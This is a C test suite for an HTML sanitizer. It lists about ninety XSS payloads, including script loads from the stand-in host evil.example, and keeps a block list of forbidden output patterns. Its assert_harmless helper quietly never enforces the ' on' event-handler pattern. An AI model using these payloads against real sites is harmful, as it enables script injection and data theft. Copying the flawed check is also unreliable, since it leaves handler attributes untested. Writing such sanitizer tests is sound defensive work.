/* The classes of the published collections (OWASP's filter evasion sheet, DOMPurify's tests, html5sec):
 * whatever goes in, what comes out is of the sanitizer's alphabet, says nothing executable, and is the
 * same when it is sanitized again. The vectors are our own. */
#include "tests/test.h"

#include "base/hash.h"
#include "source/html.h"
#include "source/sanitize.h"

static const char *const ATTACKS[] = {
    /* script, in any writing */
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/y>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script\x0c"
    "type=module>import('//evil.example')</script>",
    /* handlers */
    "<b onclick=alert(1)>x</b>",
    "<a href=/x onmouseover=\"alert(1)\" ONFOCUS='alert(2)' autofocus>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onpointerenter=alert(1) style=position:fixed;inset:0>x",
    "<custom-tag onclick=alert(1) is=x>x</custom-tag>",
    /* addresses: entities, white space, control characters, case */
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"data:text/html,%3Cscript%3E\">x</a>",
    "<a href=\"view-source:javascript:1\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"https://a.example/\"onclick=\"alert(1)\">x</a>",
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    "<a href=\"https://a.example/?<b>\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    /* other elements that run or load */
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(2)>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<isindex action=javascript:alert(1) type=image>",
    "<applet code=x></applet><frameset onload=alert(1)></frameset>",
    "<portal src=//evil.example></portal><dialog open>x</dialog>",
    /* style */
    "<style>@import '//evil.example/x.css';</style>",
    "<b style=\"background:url(javascript:alert(1))\">x</b>",
    "<b style=\"width:expression(alert(1))\">x</b>",
    "<b style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">x</b>",
    /* other namespaces, and the way out of them */
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><b onclick=alert(1)>x</b></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    /* what changes its meaning when it is parsed again */
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><script>alert(1)</script>\"></noembed>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><b title=\"</title><script>alert(1)</script>\"></title>",
    "<xmp><p title=\"</xmp><svg onload=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><b>x",
    "<!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<b>1 \" ' > < & 2</b>",
    "<a href=\"https://a.example\"><a href=\"javascript:alert(1)\">x</a></a>",
    "<b><p><i></b><script>alert(1)</script></i>",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>x</table>",
    "\xEF\xBC\x9Cscript\xEF\xBC\x9E"
    "alert(1)",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<b\xC2\xA0onclick=alert(1)>x</b>",
};

static void assert_harmless(struct str out, const char *attack)
{
    static const char *const NEVER[] = {"<script",   "<img",  "<svg",        "<iframe",
                                        "<style",    "<form", "href=\"java", "href=\"data",
                                        "href=\"vb", " on",   "<!--"};
    if (!sanitize_is_clean(out))
        fail_msg("not clean: %s gives %.*s", attack, STR_ARG(out));
    for (size_t i = 0; i < COUNT_OF(NEVER); i++) {
        struct str rest = out;
        size_t at = str_find(rest, str_view(NEVER[i]));
        bool in_tag = NEVER[i][0] != ' ' && at < out.n;
        if (in_tag)
            fail_msg("%s gives %.*s", attack, STR_ARG(out));
    }
}

static void attacks_come_out_harmless(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(ATTACKS); i++) {
        struct arena a;
        struct html once = {STR("")};
        struct html twice = {STR("")};
        struct err e = {""};
        arena_init(&a, 8 << 20);
        assert_int_equal(sanitize_inline(&a, str_view(ATTACKS[i]), &once, &e), RC_OK);
        assert_harmless(once.s, ATTACKS[i]);
        assert_int_equal(sanitize_inline(&a, once.s, &twice, &e), RC_OK);
        assert_true(str_eq(once.s, twice.s));
        arena_release(&a);
    }
}

static void bodies_of_attacks_are_harmless(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(ATTACKS); i++) {
        struct arena a;
        struct err e = {""};
        struct doc_block *blocks = NULL;
        size_t n = 0;
        arena_init(&a, 8 << 20);
        struct str body = str_concat(&a, STR("<p>Đoạn <b>đầu</b> "), str_view(ATTACKS[i]));
        assert_int_equal(html_blocks(&a, body, STR("https://b.example/"), &blocks, &n, &e), RC_OK);
        for (size_t k = 0; k < n; k++) {
            assert_harmless(blocks[k].html.s, ATTACKS[i]);
            assert_true(blocks[k].src.n == 0 || str_starts(blocks[k].src, STR("http")));
        }
        arena_release(&a);
    }
}

static void hidden_text_is_dropped(void **state)
{
    (void)state;
    static const char *const HIDDEN[] = {
        "<p style=\"display: none\">x</p>",
        "<div hidden>x</div>",
        "<span style='font-size:0px'>x</span>",
        "<div style=\"position:absolute; left:-9999px\">x</div>",
        "<div style=\"text-indent:-9999em\">x</div>",
        "<div style=\"height:0;overflow:hidden\">x</div>",
        "<p style=\"VISIBILITY:hidden\">x</p>",
        "<div style=\"margin-left:-5000px\"><a href=https://x.example>x</a></div>",
    };
    for (size_t i = 0; i < COUNT_OF(HIDDEN); i++) {
        struct arena a;
        struct html out = {STR("")};
        struct err e = {""};
        arena_init(&a, 1 << 20);
        assert_int_equal(sanitize_inline(&a, str_view(HIDDEN[i]), &out, &e), RC_OK);
        assert_false(str_contains(out.s, STR("x")));
        arena_release(&a);
    }
}

/* A class of Loa's own style sheet, or of any, hides nothing here: it does not come through, and a link to
 * elsewhere that it would have hidden is left out and told. */
static void classes_hide_no_links(void **state)
{
    (void)state;
    static const char *const MARKUP[] = {
        "a <a class=\"visually-hidden\" href=\"https://x.example/\">k</a>",
        "a <span class='b SR-ONLY'><a href=\"https://x.example/\">k</a></span>",
        "a <div class=screen-reader-text>k <a href=\"https://x.example/\">k</a></div>",
    };
    for (size_t i = 0; i < COUNT_OF(MARKUP); i++) {
        struct arena a;
        struct html out = {STR("")};
        arena_init(&a, 1 << 20);
        struct vec hidden = VEC(struct str, &a);
        assert_int_equal(sanitize_inline_told(&a, str_view(MARKUP[i]), &out, &hidden, NULL), RC_OK);
        assert_false(str_contains(out.s, STR("x.example")));
        assert_false(str_contains(out.s, STR("class")));
        assert_int_equal(hidden.n, 1);
        arena_release(&a);
    }
    struct arena a;
    struct html out = {STR("")};
    arena_init(&a, 1 << 20);
    assert_int_equal(sanitize_inline(&a,
                                     STR("<b class=visually-hidden id=c>a</b> <a class=d "
                                         "href=\"/x\">b</a> <a href=\"https://x.example/\">"
                                         "<i class=sr-only>c</i></a>"),
                                     &out, NULL),
                     RC_OK);
    assert_str_is(out.s,
                  "<b>a</b> <a href=\"/x\">b</a> <a href=\"https://x.example/\"><i>c</i></a>");
    arena_release(&a);
}

static void what_is_clean(void **state)
{
    (void)state;
    assert_true(sanitize_is_clean(STR("a <b>b</b> <a href=\"/x?a&amp;b\">c</a><br>")));
    assert_true(sanitize_is_clean(STR("")));
    assert_false(sanitize_is_clean(STR("<script>")));
    assert_false(sanitize_is_clean(STR("<b onclick=x>")));
    assert_false(sanitize_is_clean(STR("<a href=\"javascript:x\">")));
    assert_false(sanitize_is_clean(STR("<a href=\"/x\" onclick=\"y\">")));
    assert_false(sanitize_is_clean(STR("a > b")));
    assert_false(sanitize_is_clean(STR("<b")));
}

int main(void)
{
    if (!hash_start())
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(attacks_come_out_harmless),
        cmocka_unit_test(bodies_of_attacks_are_harmless),
        cmocka_unit_test(hidden_text_is_dropped),
        cmocka_unit_test(classes_hide_no_links),
        cmocka_unit_test(what_is_clean),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
